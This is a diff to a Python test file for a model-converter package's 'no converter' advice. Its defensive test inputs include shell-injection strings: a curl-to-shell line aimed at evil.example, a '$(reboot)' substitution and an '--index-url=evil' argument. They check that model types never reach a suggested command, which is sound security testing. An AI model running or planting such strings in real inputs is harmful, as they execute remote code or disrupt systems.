@@ -1,15 +1,13 @@
 """What is suggested where there is no converter: nothing that a download could have chosen."""
 
-import re
 import sys
 from pathlib import Path
 
 import pytest
 
-from forgather_convert.discovery.advice import PUBLISHED_FAMILIES, no_converter_message
+from forgather_convert.discovery.advice import PUBLISHED_DISTRIBUTIONS, no_converter_message
 from forgather_convert.discovery.found import FoundConverter, Origin, Status
-
-ROOT = Path(__file__).parents[2]
+from support.workspace import plugins, project
 
 
 def installed(*model_types: str, status: Status = Status.OK) -> list[FoundConverter]:
@@ -21,7 +19,13 @@ def installed(*model_types: str, status: Status = Status.OK) -> list[FoundConver
 
 @pytest.mark.parametrize(
     "model_type",
-    ["gpt_neox", "x'; curl evil.example | sh; '", "$(reboot)", "llama==9", "--index-url=evil"],
+    [
+        "no_such_family",
+        "x'; curl evil.example | sh; '",
+        "$(reboot)",
+        "llama==9",
+        "--index-url=evil",
+    ],
 )
 def test_a_model_type_gets_into_no_command(model_type: str) -> None:
     message = no_converter_message(model_type, installed("llama"))
@@ -32,17 +36,19 @@ def test_a_model_type_gets_into_no_command(model_type: str) -> None:
     assert "--converter-path" in rest
 
 
-@pytest.mark.parametrize("model_type", PUBLISHED_FAMILIES)
+@pytest.mark.parametrize("model_type", PUBLISHED_DISTRIBUTIONS)
 def test_families_that_are_published_are_suggested(model_type: str) -> None:
     message = no_converter_message(model_type, [])
-    assert f"'pip install forgather-convert-{model_type}'" in message
+    assert f"'pip install {PUBLISHED_DISTRIBUTIONS[model_type]}'" in message
 
 
-def test_the_published_families_are_the_extras_and_the_plugins() -> None:
-    text = (ROOT / "core/pyproject.toml").read_text(encoding="utf-8")
-    extras = re.findall(r'^(\w+) = \["forgather-convert-\1>=', text, re.MULTILINE)
-    plugins = sorted(path.parent.name for path in (ROOT / "plugins").glob("*/pyproject.toml"))
-    assert sorted(extras) == plugins == sorted(PUBLISHED_FAMILIES)
+def test_what_is_published_is_what_the_plugins_are() -> None:
+    expected = {
+        model_type: content["name"]
+        for content in (project(path)["project"] for path in plugins())
+        for model_type in content["entry-points"]["forgather.converters"]
+    }
+    assert expected == PUBLISHED_DISTRIBUTIONS
 
 
 def test_near_misses() -> None:
